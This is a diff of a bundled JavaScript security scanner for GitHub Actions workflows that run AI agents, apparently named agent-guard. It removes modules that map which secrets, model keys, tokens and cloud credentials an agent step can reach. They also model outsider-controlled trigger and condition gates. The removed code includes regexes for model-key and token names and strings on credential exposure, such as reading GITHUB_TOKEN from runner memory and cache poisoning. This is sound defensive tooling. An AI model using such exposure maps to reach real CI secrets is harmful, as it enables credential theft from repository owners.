@@ -16970,11 +16459,11 @@ function describe(node) {
   return "an unsupported node";
 }
 function convert(ctx, raw, spec, label, fallback) {
-  const node = raw && (0, import_yaml4.isAlias)(raw) ? raw.resolve(ctx.doc) ?? null : raw;
+  const node = raw && (0, import_yaml5.isAlias)(raw) ? raw.resolve(ctx.doc) ?? null : raw;
   const at = node ?? fallback;
   switch (spec.t) {
     case "string": {
-      if (!node || !(0, import_yaml4.isScalar)(node) || typeof node.value !== "string") ctx.fail(at, label, `expected a string, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isScalar)(node) || typeof node.value !== "string") ctx.fail(at, label, `expected a string, got ${describe(node)}`);
       const value = node.value;
       if (spec.nonEmpty && !value.trim()) ctx.fail(at, label, "must not be empty");
       if (spec.enum && !spec.enum.includes(value)) ctx.fail(at, label, `expected one of ${spec.enum.map((e) => `"${e}"`).join(", ")}; got "${value}"`);
@@ -16986,11 +16475,11 @@ function convert(ctx, raw, spec, label, fallback) {
       return value;
     }
     case "boolean": {
-      if (!node || !(0, import_yaml4.isScalar)(node) || typeof node.value !== "boolean") ctx.fail(at, label, `expected true or false, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isScalar)(node) || typeof node.value !== "boolean") ctx.fail(at, label, `expected true or false, got ${describe(node)}`);
       return node.value;
     }
     case "array": {
-      if (!node || !(0, import_yaml4.isSeq)(node)) ctx.fail(at, label, `expected a list, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isSeq)(node)) ctx.fail(at, label, `expected a list, got ${describe(node)}`);
       if (spec.nonEmpty && node.items.length === 0) ctx.fail(node, label, "must not be empty");
       const out = [];
       const seen = /* @__PURE__ */ new Set();
@@ -17006,12 +16495,12 @@ function convert(ctx, raw, spec, label, fallback) {
       return out;
     }
     case "object": {
-      if (!node || !(0, import_yaml4.isMap)(node)) ctx.fail(at, label, `expected a mapping, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isMap)(node)) ctx.fail(at, label, `expected a mapping, got ${describe(node)}`);
       const out = {};
       const fields = /* @__PURE__ */ new Map();
       for (const pair of node.items) {
         const keyNode = pair.key;
-        const key2 = keyNode && (0, import_yaml4.isScalar)(keyNode) ? keyNode.value : void 0;
+        const key2 = keyNode && (0, import_yaml5.isScalar)(keyNode) ? keyNode.value : void 0;
         if (typeof key2 !== "string") ctx.fail(keyNode ?? node, label, `expected a string key, got ${describe(keyNode)}`);
         const field = spec.fields[key2];
         const where = label ? `${label}.${key2}` : key2;
@@ -17033,7 +16522,7 @@ function convert(ctx, raw, spec, label, fallback) {
   }
 }
 function idSuffix(node) {
-  if (!node || !(0, import_yaml4.isMap)(node)) return "";
+  if (!node || !(0, import_yaml5.isMap)(node)) return "";
   for (const key2 of ["id", "event", "path", "input", "name"]) {
     const v = node.get(key2);
     if (typeof v === "string") return ` (${v})`;
@@ -17049,7 +16538,7 @@ function failAt(obj2, field, message) {
 }
 function parseWith(text, fileName, spec) {
   const ctx = new Ctx(fileName);
-  const doc = (0, import_yaml4.parseDocument)(text, { lineCounter: ctx.lines, prettyErrors: false, uniqueKeys: true });
+  const doc = (0, import_yaml5.parseDocument)(text, { lineCounter: ctx.lines, prettyErrors: false, uniqueKeys: true });
   ctx.doc = doc;
   const err = doc.errors[0];
   if (err) {
@@ -17397,7 +16886,7 @@ function classifyInvocation(cli, args, env, exported) {
 // src/analysis/shellScanner.ts
 var RESERVED_PREFIX = /* @__PURE__ */ new Set(["if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "coproc"]);
 var RESERVED_END = /* @__PURE__ */ new Set(["fi", "done", "esac", "}"]);
-var SHELLS2 = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "ash"]);
+var SHELLS = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "ash"]);
 var PYTHONS = /^(python|python3|python3\.\d+|python2|py|pypy3?)$/;
 var ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/;
 var MAX_DEPTH2 = 6;
@@ -18243,7 +17732,7 @@ var Scanner = class _Scanner {
       }
       return;
     }
-    if (SHELLS2.has(name)) {
+    if (SHELLS.has(name)) {
       const args = words.slice(i + 1);
       let cFlag = false;
       for (let k = 0; k < args.length; k++) {
@@ -18356,178 +17845,15 @@ function packageName(spec) {
   return s.toLowerCase();
 }
 
-// src/analysis/capabilities.ts
-var HOSTED_RUNNER = /^(ubuntu|windows|macos)-|^(ubuntu|windows|macos)$/i;
-var MODEL_KEY_NAME = /(ANTHROPIC|CLAUDE|OPENAI|GEMINI|GOOGLE_API|QWEN|DASHSCOPE|OPENROUTER|MISTRAL|GROQ|DEEPSEEK|COHERE|XAI|OPENCODE|CURSOR|FACTORY|WARP|AMP|LLM|AI)_?(API_?)?(KEY|TOKEN)|OAUTH_TOKEN/i;
-var TOKEN_ENV = /^(GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GH_PAT|GH_ENTERPRISE_TOKEN|GITHUB_PERSONAL_ACCESS_TOKEN|COPILOT_GITHUB_TOKEN)$/;
-function secretRefs(node, within, depth = 0) {
-  const out = { secrets: [], githubToken: false };
-  const visit = (n) => {
-    if (!n) return;
-    if (n.kind === "map") return n.pairs.forEach((p) => visit(p.value));
-    if (n.kind === "seq") return n.items.forEach(visit);
-    if (typeof n.value !== "string" || !n.text.includes("${{")) return;
-    for (const t of findTemplates(n.text)) {
-      for (const r of referencesOf(t.inner) ?? []) {
-        if (r.path === "github.token" || r.path === "secrets.github_token") out.githubToken = true;
-        else if (r.path.startsWith("secrets.") && r.path.length > 8) out.secrets.push(r.path.slice(8).toUpperCase());
-        else if (r.path === "secrets" || r.path === "secrets.*") out.secrets.push("*");
-        else if (r.path.startsWith("inputs.") && within?.frame && depth < 8) {
-          const given = inputOf(within.frame.callerStep.step.with, r.path.slice(7));
-          const inner = secretRefs(given?.value, within.frame.callerStep, depth + 1);
-          out.secrets.push(...inner.secrets);
-          out.githubToken ||= inner.githubToken;
-        }
-      }
-    }
-  };
-  visit(node);
-  return out;
-}
-function writeScopesOf(permissions) {
-  if (!permissions) return { scopes: ["*"], isDefault: true, idToken: false };
-  if (permissions.all === "write") return { scopes: ["*"], isDefault: false, idToken: true };
-  const scopes = Object.entries(permissions.scopes).filter(([scope, level]) => level === "write" && scope !== "id-token").map(([scope]) => scope);
-  return { scopes, isDefault: false, idToken: permissions.scopes["id-token"] === "write" };
-}
-var RUN_SCRIPT = { shell: "full", network: true, writesFiles: true };
-function shellCapabilities(step) {
-  return capabilitiesAt(step, { keyEnv: [] }, RUN_SCRIPT, false);
-}
-function capabilitiesAt(step, agent, tools, jailed) {
-  const secrets = [];
-  const tokens = [];
-  const keyInputs = new Set((agent.action?.keyInputs ?? []).map((i) => i.toLowerCase()));
-  const tokenInputs = new Set((agent.action?.tokenInputs ?? []).map((i) => i.toLowerCase()));
-  const isModelKey = (name, secret) => agent.keyEnv.includes(name) || keyInputs.has(name.toLowerCase()) || MODEL_KEY_NAME.test(secret) || MODEL_KEY_NAME.test(name);
-  const envLayers = [
-    { entries: step.step.env, where: "env", within: step },
-    ...framesOf(step).map((caller) => ({ entries: caller.step.env, where: `env of step '${caller.step.label}'`, within: caller })),
-    { entries: step.job.job.env, where: "job env", within: step },
-    { entries: step.job.workflow.env, where: "workflow env", within: step }
-  ];
-  for (const layer of envLayers) {
-    for (const entry of layer.entries) {
-      const refs = secretRefs(entry.value, layer.within);
-      for (const s of refs.secrets) secrets.push({ name: s, via: `${layer.where} ${entry.name}`, modelKey: isModelKey(entry.name, s) });
-      const tokenVar = TOKEN_ENV.test(entry.name) && entry.value.kind === "scalar" && entry.value.text.trim() !== "";
-      if (refs.githubToken || tokenVar) {
-        tokens.push({ via: `${layer.where} ${entry.name}`, foreign: !refs.githubToken });
-      }
-    }
-  }
-  for (const input of step.step.with) {
-    const refs = secretRefs(input.value, step);
-    for (const s of refs.secrets) {
-      const token = tokenInputs.has(input.name.toLowerCase()) || TOKEN_ENV.test(s);
-      if (token) tokens.push({ via: `input ${input.name}`, foreign: true });
-      else secrets.push({ name: s, via: `input ${input.name}`, modelKey: isModelKey(input.name, s) });
-    }
-    if (refs.githubToken && tokenInputs.has(input.name.toLowerCase())) tokens.push({ via: `input ${input.name}`, foreign: false });
-  }
-  if (agent.action?.tokenInputs?.length && !tokens.some((t) => t.via.startsWith("input"))) {
-    tokens.push({ via: "the default github.token", foreign: false });
-  }
-  const inherited = step.job.caller?.secrets;
-  if (inherited === "inherit") secrets.push({ name: "*", via: "secrets: inherit from the caller", modelKey: false });
-  if (tools.shell === "full" && !isSelfHosted(step)) {
-    const known = new Set(secrets.map((s) => s.name));
-    for (const other of step.job.steps) {
-      for (const name of stepSecrets(other)) {
-        if (known.has(name)) continue;
-        known.add(name);
-        secrets.push({ name, via: `the runner's memory (used by step '${other.step.label}')`, modelKey: MODEL_KEY_NAME.test(name) });
-      }
-    }
-    tokens.push({ via: "the runner's memory (a shell with sudo reads the job's GITHUB_TOKEN)", foreign: false });
-  }
-  const cloud = cloudLogins(step);
-  const persisted = persistedCheckout(step);
-  if (persisted) tokens.push({ via: "credentials persisted in .git/config by actions/checkout", foreign: false });
-  const perms = writeScopesOf(step.job.permissions);
-  const keyInProcess = agent.keyInProcess ?? true;
-  return {
-    secrets: jailed ? [] : secrets,
-    tokens: jailed ? [] : tokens,
-    writeScopes: perms.scopes,
-    permissionsDefault: perms.isDefault,
-    idToken: perms.idToken && !jailed,
-    cloudCredentials: jailed ? [] : cloud,
-    selfHosted: isSelfHosted(step),
-    persistedCredentials: persisted && !jailed,
-    tools: jailed ? { ...tools, network: false } : tools,
-    keyInProcess: keyInProcess && !jailed,
-    jailed
-  };
-}
-function stepSecrets(step) {
-  const out = [];
-  const nodes = [...step.step.with.map((w) => w.value), ...step.step.env.map((e) => e.value), step.step.run];
-  for (const n of nodes) out.push(...secretRefs(n).secrets);
-  return out.filter((s) => s !== "*" && s !== "GITHUB_TOKEN");
-}
-function framesOf(step) {
-  const out = [];
-  for (let f = step.frame; f; f = f.callerStep.frame) out.push(f.callerStep);
-  return out;
-}
-function isSelfHosted(step) {
-  const labels = step.job.job.runsOn;
-  if (!labels.length) return false;
-  if (labels.some((l) => l.includes("${{"))) return false;
-  return labels.some((l) => /self-hosted/i.test(l)) || !labels.some((l) => HOSTED_RUNNER.test(l));
-}
-var CLOUD_LOGINS = [
-  { uses: /^google-github-actions\/auth@/i, leaves: "GCP credentials (gha-creds-*.json in the workspace, GOOGLE_APPLICATION_CREDENTIALS)" },
-  { uses: /^aws-actions\/configure-aws-credentials@/i, leaves: "AWS credentials (AWS_ACCESS_KEY_ID/AWS_SESSION_TOKEN in the environment)" },
-  { uses: /^azure\/login@/i, leaves: "Azure credentials (the az CLI token cache in HOME)" }
-];
-function cloudLogins(step) {
-  const out = [];
-  const own = step.step.with.find((w) => /workload_identity_provider|workload-identity-provider|role-to-assume/i.test(w.name) && w.text.trim());
-  if (own) out.push(`cloud credentials minted by this step (input ${own.name})`);
-  for (const s of step.job.steps) {
-    if (s.position >= step.position) break;
-    const hit = CLOUD_LOGINS.find((c) => c.uses.test(s.step.uses?.text ?? ""));
-    if (hit && !out.includes(hit.leaves)) out.push(hit.leaves);
-  }
-  return out;
-}
-function persistedCheckout(step) {
-  return step.job.steps.some((s) => {
-    if (s.position >= step.position) return false;
-    if (!/^actions\/checkout@/i.test(s.step.uses?.text ?? "")) return false;
-    const persist = inputOf(s.step.with, "persist-credentials")?.text;
-    return persist === void 0 || !/^false$/i.test(persist.trim());
-  });
-}
-function describeCapabilities(c) {
-  const out = [];
-  if (c.jailed) out.push("jailed:agent-guard-run");
-  for (const s of c.secrets) out.push(`secret:${s.name}${s.modelKey ? " (model key)" : ""} via ${s.via}`);
-  for (const t of c.tokens) out.push(`github-token:${t.foreign ? "pat-or-app-token" : "GITHUB_TOKEN"} via ${t.via}`);
-  if (c.permissionsDefault) out.push("permissions:default (write-all where the repository default is permissive)");
-  else for (const s of c.writeScopes) out.push(`permission:${s}:write`);
-  if (c.idToken) out.push("permission:id-token:write (OIDC)");
-  for (const cloud of c.cloudCredentials) out.push(`cloud:${cloud}`);
-  if (c.selfHosted) out.push("runner:self-hosted");
-  else if (c.tools.shell === "full" && !c.jailed) out.push("actions-cache:write (poisons caches that release workflows restore)");
-  if (c.tools.shell !== "none") out.push(`shell:${c.tools.shell}`);
-  if (c.tools.network) out.push("network:unrestricted");
-  if (c.tools.writesFiles) out.push("writes-files");
-  if (c.keyInProcess && c.secrets.some((s) => s.modelKey)) out.push("model-key-in-agent-process");
-  return out;
-}
-
 // src/workflow/load.ts
-var import_node_fs3 = __toESM(require("node:fs"));
-var import_node_path2 = __toESM(require("node:path"));
+var import_node_fs = __toESM(require("node:fs"));
+var import_node_path = __toESM(require("node:path"));
 var MAX_FILE_BYTES = 4 * 1024 * 1024;
 var CACHE_SIZE = 64;
 var DISK = {
-  size: (abs) => import_node_fs3.default.statSync(abs).size,
-  read: (abs) => import_node_fs3.default.readFileSync(abs, "utf8"),
-  exists: (abs) => import_node_fs3.default.existsSync(abs)
+  size: (abs) => import_node_fs.default.statSync(abs).size,
+  read: (abs) => import_node_fs.default.readFileSync(abs, "utf8"),
+  exists: (abs) => import_node_fs.default.existsSync(abs)
 };
 function memoryReader(files) {
   const get = (abs) => {
@@ -18537,16 +17863,16 @@ function memoryReader(files) {
   };
   return { size: (abs) => Buffer.byteLength(get(abs)), read: get, exists: (abs) => files.has(abs) };
 }
-var MEMORY_ROOT = import_node_path2.default.resolve("/", "agent-guard-memory");
+var MEMORY_ROOT = import_node_path.default.resolve("/", "agent-guard-memory");
 function memorySets(files, errors) {
   const memory = /* @__PURE__ */ new Map();
   for (const f of files) {
-    const abs = import_node_path2.default.resolve(MEMORY_ROOT, f.path.replace(/^\/+/, ""));
-    const rel = import_node_path2.default.relative(MEMORY_ROOT, abs);
-    if (rel && !rel.startsWith("..") && !import_node_path2.default.isAbsolute(rel)) memory.set(abs, f.text);
+    const abs = import_node_path.default.resolve(MEMORY_ROOT, f.path.replace(/^\/+/, ""));
+    const rel = import_node_path.default.relative(MEMORY_ROOT, abs);
+    if (rel && !rel.startsWith("..") && !import_node_path.default.isAbsolute(rel)) memory.set(abs, f.text);
   }
-  const workflowsDir = import_node_path2.default.join(MEMORY_ROOT, ".github", "workflows");
-  const workflows = [...memory.keys()].filter((abs) => import_node_path2.default.dirname(abs) === workflowsDir && WORKFLOW_EXT.test(abs)).sort();
+  const workflowsDir = import_node_path.default.join(MEMORY_ROOT, ".github", "workflows");
+  const workflows = [...memory.keys()].filter((abs) => import_node_path.default.dirname(abs) === workflowsDir && WORKFLOW_EXT.test(abs)).sort();
   if (!workflows.length) {
     errors.push({ file: ".github/workflows", line: 1, column: 1, message: "no workflow files found (looked for .github/workflows/*.yml)" });
     return [];
@@ -18557,16 +17883,16 @@ var WORKFLOW_EXT = /\.ya?ml$/i;
 function discover(paths, errors) {
   const sets = [];
   for (const given of paths.length ? paths : ["."]) {
-    const abs = import_node_path2.default.resolve(given);
+    const abs = import_node_path.default.resolve(given);
     let stat;
     try {
-      stat = import_node_fs3.default.statSync(abs);
+      stat = import_node_fs.default.statSync(abs);
     } catch {
       errors.push({ file: given, line: 1, column: 1, message: "no such file or directory" });
       continue;
     }
     if (stat.isFile()) {
-      sets.push({ root: guessRoot(import_node_path2.default.dirname(abs)), files: [abs] });
+      sets.push({ root: guessRoot(import_node_path.default.dirname(abs)), files: [abs] });
       continue;
     }
     const dirs = candidateWorkflowDirs(abs);
@@ -18580,29 +17906,29 @@ function discover(paths, errors) {
   return sets;
 }
 function candidateWorkflowDirs(dir) {
-  const nested = import_node_path2.default.join(dir, ".github", "workflows");
+  const nested = import_node_path.default.join(dir, ".github", "workflows");
   if (isDir(nested)) return [nested];
-  const inGithub = import_node_path2.default.join(dir, "workflows");
-  if (import_node_path2.default.basename(dir) === ".github" && isDir(inGithub)) return [inGithub];
+  const inGithub = import_node_path.default.join(dir, "workflows");
+  if (import_node_path.default.basename(dir) === ".github" && isDir(inGithub)) return [inGithub];
   return [dir];
 }
 function guessRoot(dir) {
-  if (import_node_path2.default.basename(dir) === "workflows" && import_node_path2.default.basename(import_node_path2.default.dirname(dir)) === ".github") {
-    return import_node_path2.default.dirname(import_node_path2.default.dirname(dir));
+  if (import_node_path.default.basename(dir) === "workflows" && import_node_path.default.basename(import_node_path.default.dirname(dir)) === ".github") {
+    return import_node_path.default.dirname(import_node_path.default.dirname(dir));
   }
-  if (import_node_path2.default.basename(dir) === ".github") return import_node_path2.default.dirname(dir);
+  if (import_node_path.default.basename(dir) === ".github") return import_node_path.default.dirname(dir);
   return dir;
 }
 function isDir(p) {
   try {
-    return import_node_fs3.default.statSync(p).isDirectory();
+    return import_node_fs.default.statSync(p).isDirectory();
   } catch {
     return false;
   }
 }
 function listYaml(dir) {
   try {
-    return import_node_fs3.default.readdirSync(dir, { withFileTypes: true }).filter((d) => d.isFile() && WORKFLOW_EXT.test(d.name)).map((d) => import_node_path2.default.join(dir, d.name)).sort();
+    return import_node_fs.default.readdirSync(dir, { withFileTypes: true }).filter((d) => d.isFile() && WORKFLOW_EXT.test(d.name)).map((d) => import_node_path.default.join(dir, d.name)).sort();
   } catch {
     return [];
   }
@@ -18618,8 +17944,8 @@ function openRepository(set, cwd = process.cwd(), remote) {
   const texts = /* @__PURE__ */ new Map();
   const remoteTexts = /* @__PURE__ */ new Map();
   const display = (abs) => {
-    const rel = import_node_path2.default.relative(cwd, abs);
-    return rel && !rel.startsWith("..") && !import_node_path2.default.isAbsolute(rel) ? rel : abs;
+    const rel = import_node_path.default.relative(cwd, abs);
+    return rel && !rel.startsWith("..") && !import_node_path.default.isAbsolute(rel) ? rel : abs;
   };
   const repo = {
     root: set.root,
@@ -18633,7 +17959,7 @@ function openRepository(set, cwd = process.cwd(), remote) {
     remote,
     remoteCache: /* @__PURE__ */ new Map(),
     reader,
-    text: (shown) => texts.get(shown) ?? remoteTexts.get(shown) ?? set.memory?.get(import_node_path2.default.resolve(set.root, shown)),
+    text: (shown) => texts.get(shown) ?? remoteTexts.get(shown) ?? set.memory?.get(import_node_path.default.resolve(set.root, shown)),
     workflow(abs) {
       if (cache2.has(abs)) {
         const hit = cache2.get(abs) ?? null;
@@ -18660,7 +17986,7 @@ function openRepository(set, cwd = process.cwd(), remote) {
     },
     *byName(name) {
       for (const f of repo.files) {
-        if (f.name !== name && import_node_path2.default.basename(f.abs) !== name) continue;
+        if (f.name !== name && import_node_path.default.basename(f.abs) !== name) continue;
         const workflow = repo.workflow(f.abs);
         if (workflow) yield workflow;
       }
@@ -18729,9 +18055,9 @@ function reportProblems(repo, file, problems) {
 }
 function localPath(repo, uses) {
   if (!uses.startsWith("./")) return null;
-  const target = import_node_path2.default.resolve(repo.root, uses.replace(/@.*$/, ""));
-  const rel = import_node_path2.default.relative(repo.root, target);
-  if (rel.startsWith("..") || import_node_path2.default.isAbsolute(rel)) return null;
+  const target = import_node_path.default.resolve(repo.root, uses.replace(/@.*$/, ""));
+  const rel = import_node_path.default.relative(repo.root, target);
+  if (rel.startsWith("..") || import_node_path.default.isAbsolute(rel)) return null;
   return target;
 }
 function resolveLocalAction(repo, uses) {
@@ -18739,7 +18065,7 @@ function resolveLocalAction(repo, uses) {
   if (!dir) return null;
   if (repo.actions.has(dir)) return repo.actions.get(dir) ?? null;
   repo.actions.set(dir, null);
-  const file = ["action.yml", "action.yaml"].map((n) => import_node_path2.default.join(dir, n)).find((p) => (repo.reader ?? DISK).exists(p));
+  const file = ["action.yml", "action.yaml"].map((n) => import_node_path.default.join(dir, n)).find((p) => (repo.reader ?? DISK).exists(p));
   if (!file) return null;
   const loaded = readYamlFile(repo, file, /* @__PURE__ */ new Set(), /* @__PURE__ */ new Map());
   if (!loaded) return null;
@@ -18793,322 +18119,6 @@ function effectiveWorkflowUses(uses, from) {
 function resolveCalledWorkflow(repo, uses, from) {
   const target = effectiveWorkflowUses(uses, from);
   return target.startsWith("./") ? resolveLocalWorkflow(repo, target) : resolveRemoteWorkflow(repo, target);
-}
-
-// src/analysis/gates.ts
-var ANY = { k: "any" };
-var BOTH = { k: "bool", t: true, f: true };
-var TRUE = { k: "bool", t: true, f: false };
-var FALSE = { k: "bool", t: false, f: true };
-var OUTSIDER_ASSOCIATIONS = ["none", "contributor", "first_time_contributor", "first_timer", "mannequin"];
-var OBJECT_ROLES = {
-  issue: "issue",
-  comment: "comment",
-  pull_request: "pull_request",
-  review: "review",
-  discussion: "discussion",
-  workflow_run: "workflow_run",
-  head_commit: "commit"
-};
-function parseCondition(node) {
-  if (!node) return null;
-  const text = node.text.trim();
-  if (!text) return null;
-  const templates = findTemplates(text);
-  let source = text;
-  if (templates.length) {
-    if (templates.length !== 1 || templates[0].start !== 0 || templates[0].end !== text.length) return null;
-    source = templates[0].inner;
-  }
-  if (source.length > GITHUB_MAX_EXPRESSION_LENGTH) return null;
-  const parsed = tryParseExpression(source);
-  return parsed instanceof Error ? null : parsed;
-}
-function canPass(condition, scenario2) {
-  if (!condition) return true;
-  try {
-    return truthy(evaluate(condition, scenario2)).t;
-  } catch (err) {
-    if (err instanceof RangeError) return true;
-    throw err;
-  }
-}
-function truthy(v) {
-  switch (v.k) {
-    case "bool":
-      return v;
-    case "strs":
-      return { t: v.v.some((s) => s !== "" && s !== "false" && s !== "0"), f: v.v.some((s) => s === "" || s === "0") };
-    case "array":
-    case "login":
-    case "repo":
-    case "forkRepo":
-      return { t: true, f: false };
-    default:
-      return { t: true, f: true };
-  }
-}
-function evaluate(e, s) {
-  switch (e.kind) {
-    case "literal":
-      if (e.value === null) return { k: "strs", v: [""] };
-      if (typeof e.value === "boolean") return e.value ? TRUE : FALSE;
-      return { k: "strs", v: [String(e.value).toLowerCase()] };
-    case "unary": {
-      const t = truthy(evaluate(e.operand, s));
-      return { k: "bool", t: t.f, f: t.t };
-    }
-    case "binary":
-      return binary(e.op, e.left, e.right, s);
-    case "call":
-      return call(e.name, e.args, s);
-    default: {
-      const path14 = accessPath(e);
-      return path14 ? contextValue(path14, s) : ANY;
-    }
-  }
-}
-function binary(op, left, right, s) {
-  if (op === "&&") {
-    const l2 = truthy(evaluate(left, s));
-    const r2 = truthy(evaluate(right, s));
-    return { k: "bool", t: l2.t && r2.t, f: l2.f || r2.f };
-  }
-  if (op === "||") {
-    const l2 = truthy(evaluate(left, s));
-    const r2 = truthy(evaluate(right, s));
-    return { k: "bool", t: l2.t || r2.t, f: l2.f && r2.f };
-  }
-  const l = evaluate(left, s);
-  const r = evaluate(right, s);
-  if (op === "==") return equals(l, r, s);
-  if (op === "!=") {
-    const eq = equals(l, r, s);
-    return { k: "bool", t: eq.f, f: eq.t };
-  }
-  return BOTH;
-}
-function equals(a, b, s) {
-  if (a.k === "any" || b.k === "any") return BOTH;
-  if (b.k === "login" || b.k === "forkRepo" || b.k === "repo" && a.k !== "login" && a.k !== "forkRepo") [a, b] = [b, a];
-  if (a.k === "login") {
-    if (b.k === "strs") return { k: "bool", t: b.v.some((v) => isBotLogin(v) && !s?.trustedBots?.has(v)), f: true };
-    return BOTH;
-  }
-  if (a.k === "forkRepo") return b.k === "repo" ? FALSE : BOTH;
-  if (a.k === "repo") return b.k === "repo" ? TRUE : BOTH;
-  if (a.k === "strs" && b.k === "strs") {
-    const t = a.v.some((x) => b.v.includes(x));
-    const f = !(a.v.length === 1 && b.v.length === 1 && a.v[0] === b.v[0]);
-    return { k: "bool", t, f };
-  }
-  if (a.k === "bool" && b.k === "bool") return { k: "bool", t: a.t && b.t || a.f && b.f, f: a.t && b.f || a.f && b.t };
-  if (a.k === "bool" && b.k === "strs") return boolVsStrings(a, b.v);
-  if (b.k === "bool" && a.k === "strs") return boolVsStrings(b, a.v);
-  return BOTH;
-}
-function boolVsStrings(a, strs) {
-  const t = a.t && strs.includes("1") || a.f && strs.some((x) => x === "0" || x === "");
-  return { k: "bool", t, f: true };
-}
-function isBotLogin(login) {
-  return login.endsWith("[bot]");
-}
-function call(name, args, s) {
-  switch (name) {
-    case "success":
-    case "failure":
-    case "cancelled":
-      return BOTH;
-    case "always":
-      return TRUE;
-    case "fromjson": {
-      const arg = args[0] && evaluate(args[0], s);
-      if (arg?.k === "strs" && arg.v.length === 1) return fromJsonLiteral(arg.v[0]);
-      return ANY;
-    }
-    case "contains": {
-      if (args.length !== 2) return BOTH;
-      const hay = evaluate(args[0], s);
-      const needle = evaluate(args[1], s);
-      if (hay.k === "array") {
-        const results = hay.items.map((item) => equals(item, needle, s));
-        return { k: "bool", t: results.some((r) => r.t), f: results.every((r) => r.f) };
-      }
-      if (hay.k === "strs" && needle.k === "strs") {
-        const t = hay.v.some((h) => needle.v.some((n) => h.includes(n)));
-        const f = hay.v.some((h) => needle.v.some((n) => !h.includes(n)));
-        return { k: "bool", t, f };
-      }
-      return BOTH;
-    }
-    case "startswith":
-    case "endswith": {
-      const a = args[0] && evaluate(args[0], s);
-      const b = args[1] && evaluate(args[1], s);
-      if (a?.k === "strs" && b?.k === "strs") {
-        const test = (x, y) => name === "startswith" ? x.startsWith(y) : x.endsWith(y);
-        return { k: "bool", t: a.v.some((x) => b.v.some((y) => test(x, y))), f: a.v.some((x) => b.v.some((y) => !test(x, y))) };
-      }
-      return BOTH;
-    }
-    default:
-      return ANY;
-  }
-}
-function fromJsonLiteral(text) {
-  try {
-    return jsonToValue(JSON.parse(text));
-  } catch {
-    return ANY;
-  }
-}
-function jsonToValue(v) {
-  if (Array.isArray(v)) return { k: "array", items: v.map(jsonToValue) };
-  if (typeof v === "boolean") return v ? TRUE : FALSE;
-  if (v === null) return { k: "strs", v: [""] };
-  if (typeof v === "string" || typeof v === "number") return { k: "strs", v: [String(v).toLowerCase()] };
-  return ANY;
-}
-function contextValue(path14, s) {
-  const attacked = (role) => s.attacker.has(role);
-  switch (path14) {
-    case "github.event_name":
-      return { k: "strs", v: [s.event] };
-    case "github.event.action":
-      return s.actions.allowed ? { k: "strs", v: s.actions.allowed } : ANY;
-    case "github.actor":
-    case "github.triggering_actor":
-    case "github.event.sender.login":
-      return attacked("actor") ? { k: "login" } : ANY;
-    case "github.repository":
-      return { k: "repo" };
-    case "github.event.label.name":
-      return attacked("actor") ? { k: "strs", v: [""] } : ANY;
-    case "github.event.pull_request.head.repo.fork":
-      return attacked("pull_request") ? TRUE : ANY;
-    case "github.event.pull_request.head.repo.full_name":
-    case "github.event.pull_request.head.label":
-      return attacked("pull_request") ? { k: "forkRepo" } : ANY;
-    case "github.event.workflow_run.head_repository.full_name":
-      return attacked("workflow_run") ? { k: "forkRepo" } : ANY;
-    case "github.event.workflow_run.head_repository.fork":
-      return attacked("workflow_run") ? TRUE : ANY;
-    case "github.event.workflow_run.actor.login":
-    case "github.event.workflow_run.triggering_actor.login":
-      return attacked("workflow_run") ? { k: "login" } : ANY;
-    case "github.event.head_commit.author.name":
-    case "github.event.head_commit.author.username":
-    case "github.event.head_commit.committer.username":
-      return attacked("commit") ? { k: "login" } : ANY;
-  }
-  const parts = path14.split(".");
-  if (parts[0] === "github" && parts[1] === "event" && parts.length >= 4) {
-    const role = OBJECT_ROLES[parts[2]];
-    const rest = parts.slice(3).join(".");
-    if (role) {
-      if (rest === "author_association") return attacked(role) ? { k: "strs", v: OUTSIDER_ASSOCIATIONS } : ANY;
-      if (rest === "user.login" || rest === "head.user.login" || rest === "head.repo.owner.login") {
-        return attacked(role) ? { k: "login" } : ANY;
-      }
-    }
-  }
-  if (parts[0] === "steps" && parts.length >= 3 && s.permissionSteps.has(parts[1]) && attacked("actor")) {
-    return NOT_PERMITTED;
-  }
-  if (parts[0] === "needs" && parts.length >= 3 && s.permissionJobs.has(parts[1]) && attacked("actor")) {
-    return NOT_PERMITTED;
-  }
-  return ANY;
-}
-var NOT_PERMITTED = { k: "strs", v: ["", "false", "none", "read", "triage", "failure", "skipped"] };
-
-// src/analysis/triggers.ts
-var ACTOR_ROLES = {
-  issues: ["issue"],
-  issue_comment: ["comment"],
-  discussion: ["discussion"],
-  discussion_comment: ["comment"],
-  pull_request: ["pull_request", "commit"],
-  pull_request_target: ["pull_request", "commit"],
-  pull_request_review: ["review"],
-  pull_request_review_comment: ["comment"],
-  workflow_run: ["workflow_run", "commit"],
-  repository_dispatch: ["payload"],
-  push: ["commit"]
-};
-function triggerRuleFor(rules, event) {
-  return rules.find((r) => r.event === event);
-}
-function classifyTriggers(workflow, rules, byName) {
-  return workflow.triggers.map((trigger) => classify(trigger, workflow, rules, byName, /* @__PURE__ */ new Set()));
-}
-function classify(trigger, workflow, rules, byName, seen) {
-  const event = trigger.event.toLowerCase();
-  const rule = triggerRuleFor(rules, event);
-  const filter = trigger.types.map((t) => t.toLowerCase());
-  const maintainerOnly = (rule?.maintainerOnlyTypes ?? []).map((t) => t.toLowerCase());
-  const allActions = { allowed: filter.length ? filter : null, excluded: [] };
-  const outsiderTypes = filter.length ? filter.filter((t) => !maintainerOnly.includes(t)) : null;
-  const outsiderActions = outsiderTypes === null ? { allowed: null, excluded: maintainerOnly } : outsiderTypes.length ? { allowed: outsiderTypes, excluded: [] } : null;
-  const base = { event, trigger, workflow, allActions };
-  if (!rule) return { ...base, firing: "maintainers", outsiderActions: null, uncertain: `unknown event '${event}'` };
-  switch (rule.who) {
-    case "anyone":
-    case "anyone-unprivileged":
-      return { ...base, firing: outsiderActions ? rule.who : "maintainers", outsiderActions };
-    case "callers":
-      return { ...base, firing: "callers", outsiderActions };
-    case "maintainers":
-      return { ...base, firing: "maintainers", outsiderActions: null };
-    case "upstream":
-      return { ...base, ...upstreamFiring(trigger, workflow, rules, byName, seen), outsiderActions };
-  }
-}
